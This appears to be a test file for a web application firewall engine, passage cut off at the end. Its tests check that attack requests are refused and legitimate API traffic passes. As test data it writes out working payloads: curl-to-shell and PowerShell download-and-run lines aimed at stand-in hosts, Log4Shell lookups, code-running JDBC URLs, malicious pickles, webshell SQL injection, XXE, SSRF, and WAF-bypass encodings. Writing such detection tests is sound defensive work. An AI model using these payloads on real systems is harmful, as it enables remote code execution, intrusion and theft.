/**
 * Attacks where APIs receive them and the look-alikes of legitimate API traffic, through the
 * whole engine with its real detectors and gates: GraphQL documents, credentials and
 * conditional headers, JSON Patch pointers, byte-truncated line breaks in URL fields, Python
 * pickles of every protocol, JDBC URLs, Perl/Ruby command literals (also in file metadata),
 * Log4j case lookups, numeric `$where` breakouts, and base64 documents with their own lines.
 * Found by probe sets written apart from the engine (bench/probes/, second round).
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { ThreatEngine, type NamedDetector } from '../src/threats/engine.js';
import { DETECTORS } from '../src/threats/detectors/index.js';
import { graphqlStrings, looksGraphql } from '../src/threats/graphql.js';
import { ebcdicTable } from '../src/threats/ebcdic.js';
import type { Hit, RawRequest, ThreatVerdict } from '../src/threats/types.js';
import { assertCheap } from './threats-timing.js';

const engine = new ThreatEngine({ detectors: DETECTORS, paranoia: 1 });

function req(over: Partial<RawRequest>): RawRequest {
  return { method: 'GET', rawPath: '/api', rawQuery: '', headers: { host: 'api.example.com' }, body: undefined, ...over };
}

function json(body: unknown, path = '/graphql'): RawRequest {
  return req({ method: 'POST', rawPath: path, headers: { host: 'api.example.com', 'content-type': 'application/json' }, body: Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)) });
}

function where(v: ThreatVerdict): string[] {
  return v.findings.map((f) => `${f.detector}@${f.location}:${f.name}`);
}

function refused(r: RawRequest, what: string): ThreatVerdict {
  const v = engine.inspect(r);
  assert.equal(v.block, true, `${what} must be refused`);
  return v;
}

function passes(r: RawRequest, what: string): void {
  const v = engine.inspect(r);
  assert.equal(v.block, false, `${what} must pass: ${where(v).join(', ')}`);
}

/** One value as a query parameter `q`. */
function q(value: string, name = 'q'): RawRequest {
  return req({ rawQuery: `${name}=${encodeURIComponent(value)}` });
}

describe('GraphQL documents', () => {
  test('the lexer gives each string literal with its argument and field', () => {
    const doc = `# a comment "not a string"
      query Q($id: ID!, $t: String = "dflt") {
        user(id: "u\\"1\\u00e9", filter: {name: "Ann", tags: ["a", "b"]}) { ...F posts(first: 10) { title } }
        a: search(term: """block "quoted" text""") @include(if: true) { id }
      }
      fragment F on User { name }`;
    assert.deepEqual(
      graphqlStrings(doc, 100)?.map((s) => `${s.field}.${s.arg}=${s.value}`),
      ['Q.t=dflt', 'user.id=u"1é', 'user.name=Ann', 'user.tags=a', 'user.tags=b', 'search.term=block "quoted" text'],
    );
    assert.deepEqual(graphqlStrings('{ a(x: "\\u{1F600}") }', 10)?.[0]?.value, '😀');
  });

  test('what is not GraphQL is not read as GraphQL', () => {
    for (const text of ['select * from users', '{"a":1}', '{ a } union select password from users', 'query Q R { a }', 'fragment F of T { a }', '{ a }: 1', '"s" { a }', '{ "s" }', '{ a(b: "x) }', '{ a(b: "x\\q") }', '{ a(b: 1) ', '{ a(b: 1]) }', 'query { a } ; drop table x', '{ a(b: "line\nbreak") }']) {
      assert.equal(graphqlStrings(text, 100), undefined, text);
    }
    assert.equal(looksGraphql('  # c\n mutation M { x }'), true);
    assert.equal(looksGraphql('queryx { a }'), false);
    assert.notEqual(graphqlStrings('query Q @live { a } fragment F on T @x(if: true) { b(c: "d") } { e }', 10), undefined, 'several definitions with directives');
    assert.equal(graphqlStrings('{ a(b: "1", c: "2", d: "3") }', 2), undefined, 'more strings than allowed: read whole');
  });

  test('string arguments in the document are inputs of their own, named query/field/argument', () => {
    const v = refused(json({ query: 'query { employees(filter: "*)(|(objectClass=*)(mail=*") { cn mail } }' }), 'LDAP injection in an inline argument');
    assert.deepEqual(where(v), ['ldapi.filter-breakout@body:/query/employees/filter']);
    const u = refused(json({ query: 'mutation { importFromUrl(url: "http://localhost:2379/v2/keys/?recursive=true") { id } }' }), 'SSRF in an inline argument');
    assert.deepEqual(where(u), ['ssrf.internal-host@body:/query/importFromUrl/url']);
    // a batch (array of operations), and GET with the document in the query string
    refused(json([{ query: '{ a }' }, { query: '{ user(id: "1 UNION SELECT password FROM users-- -") { id } }' }]), 'SQL injection in a batched operation');
    const g = refused(req({ rawPath: '/graphql', rawQuery: 'query=' + encodeURIComponent('{ file(path: "../../../../etc/passwd") { content } }') }), 'traversal, GET');
    assert.ok(where(g).some((w) => w.endsWith('@query:query/file/path')), where(g).join());
  });

  test('legitimate documents pass: their braces, aliases, fragments and directives are not code', () => {
    const docs = [
      'query Orders($status: String!, $first: Int = 20) { orders(status: $status, first: $first) { edges { node { id total } } } }',
      'mutation { updateProfile(input: {bio: "I\'m O\'Brien; I like <b>bold</b> coffee & tea", locale: "en-IE"}) { id } }',
      '{ search(term: "select a plan") { ... on Product { name price(currency: EUR) } } me { id } }',
      'query { repository(owner: "acme", name: "api") { issues(first: 5, filterBy: {states: [OPEN]}) { nodes { title } } } }',
      'fragment UserParts on User { id name } query { viewer { ...UserParts } }',
    ];
    for (const d of docs) passes(json({ query: d, variables: { status: 'shipped' } }), d.slice(0, 40));
  });

  test('a `query` member that is not a GraphQL document is read whole, as before', () => {
    refused(json({ query: "1' OR '1'='1" }, '/search'), 'SQL injection in a search `query` field');
    passes(json({ query: 'how do I reset my password?' }, '/search'), 'prose');
  });

  test('the document is read in linear time', () => {
    const many = '{ a(' + Array.from({ length: 2000 }, (_, i) => `x${i}: "${'v'.repeat(20)}"`).join(', ') + ') }';
    const lex = (s: string) => graphqlStrings(s, 50_000);
    assertCheap('many strings', lex, many, { ceilingMs: 50 });
    assertCheap('deep nesting', lex, '{'.repeat(20_000) + '}'.repeat(20_000), { ceilingMs: 50 });
    assertCheap('many escapes', lex, '{ a(b: "' + '\\u0041'.repeat(30_000) + '") }', { ceilingMs: 50 });
    assertCheap('escaped block quotes', lex, '{ a(b: """' + '\\"""'.repeat(20_000) + '""") }', { ceilingMs: 50 });
    // and the engine around it: a 200 KiB document
    assertCheap('engine, large document', (s) => engine.inspect(json({ query: s })), '{ a(' + Array.from({ length: 8000 }, (_, i) => `x${i}: "v"`).join(', ') + ') }', { ceilingMs: 200 });
  });
});

describe('credentials and conditional headers', () => {
  const h = (headers: Record<string, string>): RawRequest => req({ headers: { host: 'api.example.com', ...headers } });

  test('a Bearer credential that is no token68 is inspected, and never shown', () => {
    const v = refused(h({ authorization: "Bearer AAAAAA'/**/UNION/**/SELECT/**/'<?php system($_GET[1]);?>'/**/INTO/**/OUTFILE/**/'/var/www/x.php'#" }), 'SQL injection in a Bearer token (FortiWeb CVE-2025-25257)');
    assert.ok(v.findings.every((f) => f.location === 'header' && f.name === 'authorization' && !f.excerpt.includes('UNION')), JSON.stringify(v.findings));
    passes(h({ authorization: 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl' }), 'a JWT');
    passes(h({ authorization: 'Bearer ya29.a0AfH6SMB-x_y~z+/==' }), 'an opaque token68 token');
  });

  test('a Basic user name is inspected; the password only for a lookup', () => {
    const basic = (pair: string) => h({ authorization: 'Basic ' + Buffer.from(pair).toString('base64') });
    const v = refused(basic('${jndi:ldap://x.example/a}:pw'), 'Log4Shell in a Basic user name');
    assert.ok(v.findings.every((f) => f.excerpt === '[REDACTED]' || !f.excerpt.includes('jndi')), JSON.stringify(v.findings));
    refused(basic("admin' OR '1'='1:pw"), 'SQL injection in a Basic user name');
    refused(basic('bob:${jndi:ldap://x.example/a}'), 'a lookup in a Basic password');
    passes(basic("o'brien@example.com:' or 1=1--"), 'a password that looks like SQL');
    passes(basic('pos-terminal:mkooc5DsD58qmUJ5RqLW0aAW'), 'an ordinary client id and secret');
  });

  test('conditional and cache headers are read only for a lookup', () => {
    refused(h({ 'if-modified-since': '${${upper:j}${lower:N}di:${lower:R}mi://198.51.100.29:1099/x}' }), 'Log4Shell in If-Modified-Since');
    refused(h({ 'cache-control': '${jndi:dns://x.example/a}' }), 'Log4Shell in Cache-Control');
    passes(h({ 'if-none-match': 'W/"<script>1 OR 1=1</script>"', 'cache-control': 'no-cache, max-age=0', 'if-modified-since': 'Wed, 21 Oct 2015 07:28:00 GMT' }), 'entity tags and directives');
  });

  test('a header named in ignoreHeaders beyond the defaults stays unread', () => {
    const e = new ThreatEngine({ detectors: DETECTORS, skipHeaders: new Set(['x-raw-sql']) });
    assert.equal(e.inspect(h({ 'x-raw-sql': "1' UNION SELECT password FROM users--" })).block, false);
  });
});

describe('pointers, line breaks, serialized objects, connection strings', () => {
  test('a JSON Patch path through __proto__ or constructor.prototype', () => {
    const patch = (ops: unknown) => json(ops, '/api/v1/documents/55');
    refused(patch([{ op: 'add', path: '/__proto__/isAdmin', value: true }]), 'JSON Patch through __proto__');
    refused(patch([{ op: 'add', path: '/constructor/prototype/canDelete', value: true }]), 'JSON Patch through constructor.prototype');
    passes(patch([{ op: 'replace', path: '/docs/prototype-review/constructor', value: 'The constructor and prototype of a class' }]), 'ordinary pointers');
    passes(q('Why does __proto__ differ from prototype?'), 'prose');
  });

  test('line breaks that a byte-truncating writer makes, in URL and path fields', () => {
    // č (U+010D) and Ċ (U+010A) end in the bytes of CR and LF
    refused(json({ path: '/api/v1/itemsčĊX-Ignore: xčĊčĊGET /admin/users/delete?id=1 HTTP/1.1čĊHost: 127.0.0.1čĊčĊ' }, '/proxy'), 'a smuggled request after truncated breaks');
    refused(json({ redirect_uri: 'https://app.example.com/cb\r\nSet-Cookie: sid=evil' }, '/oauth'), 'a header after a break in a redirect URI');
    refused(json({ url: 'https://app.example.com/x\n\nGET /admin HTTP/1.1' }, '/fetch'), 'a request after a break in a URL field');
    passes(json({ path: '/文档/上传/手册.pdf', description: 'Line one\nLine two: details\n\nGET /v1/items HTTP/1.1 returns a list' }, '/files'), 'CJK in a path, pasted HTTP in a description');
  });

  test('Python pickles of every protocol, base64-encoded', () => {
    // pickle.dumps of an object whose __reduce__ is (os.system, ('id',)), protocols 0, 2, 4, 5
    for (const b64 of [
      'Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==',
      'gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==',
      'gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
      'gAWVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
    ]) {
      refused(req({ headers: { host: 'api.example.com', cookie: `session_state=${b64}` } }), `pickle ${b64.slice(0, 6)} in a cookie`);
    }
    // a pickle of plain data (protocol 4: {'a': [1, 2]}) and other base64
    passes(req({ headers: { host: 'api.example.com', cookie: 'session_state=gASVEQAAAAAAAAB9lIwBYZRdlChLAUsCZXMu' } }), 'a pickle of data');
    passes(q('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='), 'a PNG');
  });

  test('JDBC URLs that make the driver run code or read files', () => {
    for (const url of [
      "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://198.51.100.43/inject.sql'",
      'jdbc:mysql://203.0.113.5:3306/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor',
      'jdbc:mysql://203.0.113.5:3306/x?allowLoadLocalInfile=true',
      'jdbc:postgresql://203.0.113.5:5432/app?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://203.0.113.5/x.xml',
    ]) {
      refused(json({ datasource: { url } }, '/api/v1/connections'), url.slice(0, 30));
    }
    refused(json(['ch.qos.logback.core.db.DriverManagerConnectionSource', { url: "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://203.0.113.5/x.sql'" }], '/api/v2/settings'), 'a Jackson gadget with an H2 URL');
    passes(json({ url: 'jdbc:postgresql://db.example.com:5432/app?sslmode=require&ApplicationName=billing' }, '/api/v1/connections'), 'an ordinary JDBC URL');
  });

  test('Perl and Ruby command literals, also inside file metadata', () => {
    for (const v of ['qx{id}', '%x(whoami)', '#{%x(id)}', 'qx(curl -s http://198.51.100.9/g.sh | bash)']) refused(q(v), v);
    for (const v of ['the %x{width} placeholder', 'faqx{abc}', 'print it with %x (hex) or %d']) passes(q(v), v);
    const upload = (content: Buffer) => {
      const head = Buffer.from('--B\r\nContent-Disposition: form-data; name="file"; filename="l.jpg"\r\nContent-Type: image/jpeg\r\n\r\n');
      return req({ method: 'POST', rawPath: '/uploads', headers: { host: 'a', 'content-type': 'multipart/form-data; boundary=B' }, body: Buffer.concat([head, content, Buffer.from('\r\n--B--\r\n')]) });
    };
    const djvu = Buffer.concat([Buffer.from('AT&TFORM\x00\x00\x00\xafDJVUINFO\x00\x00\x00\n\x00\x00ANTa\x00\x00\x00W', 'latin1'), Buffer.from('(metadata\n\t(Copyright "\\\n" . qx{curl -s http://198.51.100.90/g.sh | bash} . \\\n" b ") )\n')]);
    refused(upload(djvu), 'ExifTool DjVu metadata (CVE-2021-22205)');
    const jpeg = Buffer.alloc(4096);
    for (let i = 0; i < jpeg.length; i++) jpeg[i] = (i * 131 + 7) & 0xff;
    jpeg.write('qx{', 1000, 'latin1');
    passes(upload(jpeg), 'binary bytes `qx{` without a closing bracket in the same text');
  });

  test('Log4j case lookups as Java maps case', () => {
    refused(q('${jnd${upper:ı}:ldap://x.example/a}'), 'dotless i upper-cased');
    refused(q('${${lower:J}ndi:${upper:ſ}ldap://x.example/a}'.replace('${upper:ſ}', '')), 'lower J');
  });

  test('a number, `;` and a JavaScript statement: a $where breakout', () => {
    for (const v of ['0;return true', '-1 ; return 1', '1;sleep(5000)']) refused(q(v), v);
    for (const v of ['1; return to the store', '3;4', '12; for the kids', '2;this is fine']) passes(q(v), v);
  });

  test('lines inside a base64 document are its own, not an injected header', () => {
    const mime = 'From: Aoife <aoife@example.ie>\r\nTo: "O\'Sullivan, Siobhán" <s@example.ie>\r\nSubject: recipe\r\nContent-Type: text/plain; charset="UTF-8"\r\n\r\nHi Siobhán,\r\n\r\n250 g butter & 250 g sugar\r\n';
    passes(json({ raw: Buffer.from(mime).toString('base64url') }, '/gmail/v1/users/me/messages/send'), 'a MIME message in Gmail raw');
    refused(json({ next: '/home\r\nSet-Cookie: sid=evil' }, '/login'), 'the same header sent as text');
  });

  test('a User-Agent product token is no host', () => {
    passes(req({ headers: { host: 'a', 'user-agent': 'kubectl/v1.30.1 (linux/amd64) kubernetes/9a4b2c1' } }), 'kubectl');
    refused(q('localhost/admin'), 'a bare loopback URL');
  });
});

describe('more shapes from the second probe round', () => {
  const table = (attacks: string[], benign: string[]) => {
    for (const v of attacks) refused(q(v), v);
    for (const v of benign) passes(q(v), v);
  };

  test('PowerShell call operator on a name built from strings', () => {
    table([";&('i'+'ex')('who'+'ami')", '&("whoami")', ".('Get-'+'Process')"], ["call it with .('x')", "see (a) & ('b')", "x.('name')", "R&('D')"]);
  });

  test('option words after the first: tar --checkpoint-action', () => {
    table(['--checkpoint=1 --checkpoint-action=exec=sh x.sh', '--checkpoint=1 --checkpoint-action=exec=whoami'], ['--verbose --color=auto', '--name=John --age=5', '--sort=name --order=desc']);
  });

  test('one word, a line break and a mail header with an address', () => {
    for (const v of ['x\r\nBcc: victim@example.com', 'ann@example.com\r\nCc: x@example.net']) refused(json({ subject: v }, '/contact'), JSON.stringify(v));
    for (const v of ['Hi,\nTo: ann@example.com', 'Thanks!\nFrom: Ann <a@example.com>', 'Hello team\nTo: all staff', 'Dear Ann\nCc: Bob']) passes(json({ message: v }, '/contact'), JSON.stringify(v));
  });

  test('XPath: a string breakout into a descendant path', () => {
    table(["' or //user[position()=1]/username='admin' or '", "' or //user[1]/password='x", '" and //account/secret="1'], ['see http://example.com or //cdn.example.com/x', "Rock 'n' roll or //comments/ here"]);
  });

  test('Groovy: a command line string, or list, executed', () => {
    table(["throw new Exception('cat /etc/passwd'.execute().text);", '"id".execute()', "['sh','-c','id'].execute()"], ["'Hello world'.execute() is not a method", "db.prepare('SELECT 1').execute()", "cursor.execute('SELECT * FROM t')", "['a','b'].execute()"]);
  });

  test('ClickHouse sleepEachRow is a time function', () => {
    table(['1 AND sleepEachRow(3)=0'], ['sleep each row of the garden bed']);
  });
});

describe('filter documents and JSON under other media types', () => {
  const typed = (type: string, body: string) => req({ method: 'POST', rawPath: '/api/find', headers: { host: 'a', 'content-type': type }, body: Buffer.from(body) });

  test('narrowing operators in a filter document on fields that are no secret pass; widening, code and secret ones do not', () => {
    passes(req({ rawPath: '/parse/classes/GameScore', rawQuery: 'where=' + encodeURIComponent('{"score":{"$gte":1000,"$lte":3000},"playerName":{"$in":["Seán","D\'Arcy"]}}') }), 'Parse where');
    passes(typed('application/ejson', '{"dataSource":"Cluster0","filter":{"qty":{"$lt":30},"customer.name":{"$regex":"^O\'","$options":"i"}},"limit":10}'), 'MongoDB Data API filter');
    passes(req({ rawQuery: 'filters[price][$gte]=10&filters[title][$contains]=lamp' }), 'Strapi-style range');
    refused(req({ rawQuery: 'filters[password][$regex]=^a' }), 'a pattern on a password, in a filter');
    refused(json({ variables: { where: { email: { $ne: null }, role: 'admin' } } }), '$ne in a where document');
    refused(json({ query: { status: 'active', $or: [{ role: 'admin' }, { _id: { $exists: true } }] } }, '/api/v1/users/find'), '$or and $exists in a query document');
    refused(json({ where: { $where: 'sleep(5000)' } }, '/api/find'), 'a code operator in a where document');
    refused(json({ username: { $gt: '' }, password: { $gt: '' } }, '/login'), 'operators in a login body');
    refused(q('{"$gt": ""}', 'filter_text'), 'an operator in a value not named as a filter document');
  });

  test('a body that is JSON under another media type is read member by member', () => {
    refused(typed('text/plain', '{"username__startswith":"p"}'), 'an ORM lookup key in a JSON body sent as text/plain');
    refused(typed('application/ejson', '{"a":"1 UNION SELECT password FROM users--"}'), 'SQL injection in EJSON');
    passes(typed('text/plain', '{"note":"O\'Brien said \\"select a plan\\""}'), 'a JSON note');
    // what only looks like JSON is read whole, and is not refused as malformed
    passes(typed('text/plain', '[draft] notes for Monday: {bring slides}'), 'text in brackets');
    refused(typed('text/plain', "{not json} ' UNION SELECT password FROM users--"), 'an attack after a brace');
  });
});

describe('third probe round: placements', () => {
  const hdr = (name: string, value: string) => req({ headers: { host: 'api.example.com', [name]: value } });
  const upload = (filename: string, type: string, content: string) =>
    req({
      method: 'POST',
      rawPath: '/images/resize',
      headers: { host: 'a', 'content-type': 'multipart/form-data; boundary=B' },
      body: Buffer.from(`--B\r\nContent-Disposition: form-data; name="image"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--B--\r\n`, 'latin1'),
    });

  test('matrix parameters of a path segment are values of their own', () => {
    refused(req({ rawPath: '/directory/people;cn=%2A%29%28%26;ou=staff' }), 'LDAP injection in a matrix parameter');
    refused(req({ rawPath: '/items;id=1%20union%20select%20password%20from%20users' }), 'SQL injection in a matrix parameter');
    passes(req({ rawPath: '/cars;color=red;year=2012/photos' }), 'ordinary matrix parameters');
    passes(req({ rawPath: '/app;jsessionid=0A1B2C3D4E5F' }), 'a session id');
  });

  test('a file declared as an image or PostScript whose bytes are text is read as text', () => {
    refused(upload('poc.mvg', 'image/png', 'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://127.0.0.1/x.jpg"|curl "http://203.0.113.7/im.sh" -o /tmp/i; sh /tmp/i")\'\npop graphic-context'), 'ImageTragick MVG');
    refused(upload('scan.eps', 'application/postscript', '%!PS\nmark /OutputFile (%pipe%curl http://203.0.113.7/gs|sh) currentdevice putdeviceprops'), 'Ghostscript %pipe%');
    passes(upload('notes.yaml', 'application/x-yaml', 'title: Quarterly report\nowner: "O\'Brien"\nitems:\n  - select a plan\n  - 1 - 2\n'), 'a YAML file');
    passes(upload('logo.png', 'image/png', '\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR; rm -rf / | sh'), 'binary image bytes are not read as text');
  });

  test('the metadata address in a proxy header; non-canonical hosts in Referer and Origin', () => {
    refused(hdr('x-forwarded-host', '169.254.169.254'), 'X-Forwarded-Host');
    refused(hdr('forwarded', 'for=192.0.2.60;host=169.254.169.254'), 'Forwarded host=');
    refused(hdr('referer', 'http://0x7f000001:8080/actuator/env'), 'a hex loopback in Referer');
    refused(hdr('origin', 'http://2130706433'), 'a decimal loopback in Origin');
    passes(hdr('x-forwarded-for', '203.0.113.9, 10.0.0.1'), 'proxy-filled private addresses');
    passes(hdr('x-forwarded-host', 'api.example.com:8443'), 'a forwarded host');
    passes(hdr('referer', 'http://localhost:3000/app/orders'), 'a local development page');
    passes(hdr('origin', 'http://127.0.0.1:5173'), 'a local development origin');
  });

  test('MongoDB operators as YAML keys in a text body', () => {
    const yaml = (body: string) => req({ method: 'POST', rawPath: '/api/search/saved', headers: { host: 'a', 'content-type': 'application/yaml' }, body: Buffer.from(body) });
    refused(yaml('filter:\n  $expr:\n    $function:\n      body: "function(){ while(1){} }"\n      lang: js\n'), '$function in YAML');
    refused(yaml('query:\n  - $where: "sleep(5000)"\n'), '$where in a YAML list');
    passes(yaml('components:\n  schemas:\n    Pet:\n      $ref: ./pet.yaml\nprice: costs $5: cheap\n'), 'a YAML OpenAPI fragment');
  });
});

describe('third probe round: legitimate formats', () => {
  const typed = (type: string, body: string | Buffer, path = '/api') => req({ method: 'POST', rawPath: path, headers: { host: 'a', 'content-type': type }, body: typeof body === 'string' ? Buffer.from(body) : body });

  test('a namespace URI under an element named Document is no file inclusion', () => {
    const pain = '<?xml version="1.0" encoding="UTF-8"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><CstmrCdtTrfInitn><GrpHdr><MsgId>MSG-1</MsgId><InitgPty><Nm>O\'Brien &amp; Sons</Nm></InitgPty></GrpHdr></CstmrCdtTrfInitn></Document>';
    passes(typed('application/xml', pain, '/ebics/v3/payments/pain.001'), 'ISO 20022 pain.001');
    refused(typed('application/xml', '<Document><include>http://198.51.100.7/shell.txt?</include></Document>'), 'a remote include in an include element');
  });

  test('batch sub-requests (multipart/mixed of application/http) are read as requests', () => {
    const batch = (inner: string) =>
      typed('multipart/mixed; boundary=batch_x', `--batch_x\r\nContent-Type: application/http\r\nContent-ID: <item1:1@example.com>\r\n\r\n${inner}\r\n--batch_x--\r\n`, '/batch/drive/v3');
    passes(batch('GET /drive/v3/files/1AbC?fields=id,name HTTP/1.1\r\nAuthorization: Bearer ya29.a0Af\r\n\r\n'), 'a GET sub-request');
    passes(batch('PATCH /drive/v3/files/1AbC HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"name":"Q3 report (O\'Brien).pdf"}'), 'a PATCH with a JSON body');
    refused(batch("GET /drive/v3/files?q=name%3D'x'%20or%201%3D1--%20 HTTP/1.1\r\n\r\n"), 'SQL injection in a sub-request query');
    refused(batch('POST /v1/notes HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"text":"<img src=x onerror=alert(1)>"}'), 'XSS in a sub-request body');
    refused(batch('GET /x HTTP/1.1\r\nUser-Agent: ${jndi:ldap://198.51.100.7/a}\r\n\r\n'), 'Log4Shell in a sub-request header');
  });

  test('multipart/related: the XML root part as XML, a binary attachment as a file', () => {
    const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nstream\n', 'latin1'), Buffer.from([0, 1, 2, 0xff, 0, 0x10]), Buffer.from('\nendstream\n%%EOF')]);
    const mtom = (root: string) =>
      typed(
        'multipart/related; type="application/xop+xml"; boundary="uuid:1"; start="<root.message@cxf.apache.org>"; start-info="text/xml"',
        Buffer.concat([
          Buffer.from(`--uuid:1\r\nContent-Type: application/xop+xml; charset=UTF-8; type="text/xml"\r\nContent-ID: <root.message@cxf.apache.org>\r\n\r\n${root}\r\n--uuid:1\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; name="LS-2024-3391.pdf"\r\nContent-ID: <doc1@example.com>\r\n\r\n`),
          pdf,
          Buffer.from('\r\n--uuid:1--\r\n'),
        ]),
        '/ws/DocumentService',
      );
    passes(mtom('<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><UploadDeliveryNote><Ref>LS-2024-3391</Ref></UploadDeliveryNote></soap:Body></soap:Envelope>'), 'SOAP with an MTOM PDF');
    refused(mtom('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><a>&x;</a></soap:Body></soap:Envelope>'), 'XXE in the root part');
  });

  test('a text body that is XML (OPML as text/x-opml) is read as XML', () => {
    passes(typed('text/x-opml', '<?xml version="1.0"?><opml version="2.0"><body><outline type="rss" text="Null &amp; Void" xmlUrl="https://example.fm/feed.xml" htmlUrl="https://example.fm"/></body></opml>'), 'OPML');
    refused(typed('text/plain', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'), 'XXE in a text/plain body');
  });

  test('TeX math is not a PHP variable function', () => {
    for (const v of ["Bayes' theorem: $P(A \\mid B) = ?$", '$f(x)=x^2$', '$P(A \\mid B) = \\dfrac{P(B \\mid A)\\,P(A)}{P(B)}$']) passes(json({ front: v }, '/api/cards'), v);
    for (const v of ['$a($b);', '$x("id")=$y', '$f(x)=x^2;$g($_GET[1])']) refused(q(v), v);
  });
});

describe('fourth probe round: WAF-bypass techniques', () => {
  const ebcdic = (text: string) => [...Buffer.from(text, 'latin1')].map((b) => '%' + CP037_OF[b]!.toString(16).toUpperCase().padStart(2, '0')).join('');
  // the IBM037 bytes of the printable ASCII characters
  const CP037_OF: Record<number, number> = {};
  {
    const table = ebcdicTable('ibm037')!;
    for (let b = 0; b < 256; b++) CP037_OF[table.charCodeAt(b)] = b;
  }
  const form = (type: string, body: string) => req({ method: 'POST', rawPath: '/Account/Login.aspx', headers: { host: 'a', 'content-type': type }, body: Buffer.from(body) });

  test('a form body declared as EBCDIC (charset=ibm037) is read as the text the server decodes', () => {
    const attack = `${ebcdic('UserName')}=${ebcdic("admin' OR '1'='1'--")}&${ebcdic('Password')}=${ebcdic('x')}`;
    refused(form('application/x-www-form-urlencoded; charset=ibm037', attack), 'SQL injection in IBM037');
    refused(form('application/x-www-form-urlencoded; charset="ibm500"', `${ebcdic('host')}=${ebcdic('127.0.0.1 & powershell -c iwr http://203.0.113.8/a.ps1|iex')}`), 'command injection in IBM500');
    passes(form('application/x-www-form-urlencoded; charset=ibm037', `${ebcdic('UserName')}=${ebcdic("O'Brien")}&${ebcdic('Note')}=${ebcdic('select a plan')}`), 'an ordinary EBCDIC form');
    // the same bytes read as Latin-1 show nothing: that was the bypass
    passes(form('application/x-www-form-urlencoded', attack), 'the bytes without the charset');
  });

  test('a parameter sent more than once is also read joined by commas (ASP.NET)', () => {
    refused(req({ rawQuery: 'id=1/*&id=*/UNION/*&id=*/SELECT/*&id=*/name,password_hash/*&id=*/FROM/*&id=*/sys.sql_logins--' }), 'SQL split across repeated parameters');
    for (const query of ['tag=a&tag=b&tag=c', 'id=1&id=2', 'sort=name&sort=-date', "q=O'Brien&q=select a plan"]) passes(req({ rawQuery: query }), query);
  });

  test('a folded part header is read with the header it continues', () => {
    const body = '--B\r\nContent-Disposition: form-data; name="upload";\r\n\tfilename="${jndi:ldap://203.0.113.54/a}.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--B--\r\n';
    refused(req({ method: 'POST', rawPath: '/files', headers: { host: 'a', 'content-type': 'multipart/form-data; boundary=B' }, body: Buffer.from(body) }), 'Log4Shell in a folded filename');
  });

  test('paths and URLs hidden in base64 are decoded', () => {
    refused(json({ ref: Buffer.from('../../../../var/lib/app/secrets.env').toString('base64') }, '/attachments/fetch'), 'traversal in base64');
    refused(json({ feed: Buffer.from('http://localhost:9200/_all/_search?q=password').toString('base64') }, '/reports/source'), 'SSRF in base64');
    passes(json({ avatar: Buffer.from('https://cdn.example.com/u/42.png').toString('base64'), id: 'QWxhZGRpbjpvcGVuIHNlc2FtZQ==' }, '/profile'), 'a public URL and a word pair in base64');
  });
});

describe('fourth probe round: technical prose', () => {
  test('an internal host name inside running text is read by people, not fetched', () => {
    passes(json({ messages: [{ role: 'user', content: 'Pod keeps restarting. Logs show: failed to connect to postgres://app:****@db.internal:5432/app?sslmode=require: dial tcp 10.0.4.12:5432: connection refused. What else should I check?' }] }, '/v1/chat/completions'), 'an error message in a question');
    passes(json({ body: 'Using a libpq URI (`postgresql://reporter:x@db.internal/prod`) does work, so maybe just a docs note?' }, '/issues/1/comments'), 'a URI in a comment');
    refused(json({ url: 'https://grafana.internal/d/waf-overview' }, '/webhooks'), 'an internal URL as the whole value');
    refused(json({ text: 'please fetch http://169.254.169.254/latest/meta-data/ for the report' }, '/notes'), 'the metadata service, even in prose');
    refused(json({ text: 'render http://localhost:8080/admin into the PDF please' }, '/notes'), 'a loopback URL in prose');
  });
});

describe('the new readings stay linear on pathological input', () => {
  const inspect = (s: string) => engine.inspect(q(s));
  const body = (type: string) => (s: string) => engine.inspect(req({ method: 'POST', rawPath: '/x', headers: { host: 'a', 'content-type': type }, body: Buffer.from(s) }));
  test('repetitions of each new shape', () => {
    assertCheap('TeX-like dollars', inspect, '$f(x \\mid '.repeat(8000), { ceilingMs: 300 });
    assertCheap('PowerShell call operators', inspect, "&('a'+".repeat(10_000), { ceilingMs: 300 });
    assertCheap('command literals', inspect, 'qx{%x('.repeat(10_000), { ceilingMs: 300 });
    assertCheap('Groovy execute', inspect, "'id'.execute(".repeat(8000), { ceilingMs: 300 });
    assertCheap('XPath breakouts', inspect, "' or //a".repeat(10_000), { ceilingMs: 300 });
    assertCheap('JDBC URLs', inspect, 'jdbc:h2:x;a=b '.repeat(8000), { ceilingMs: 300 });
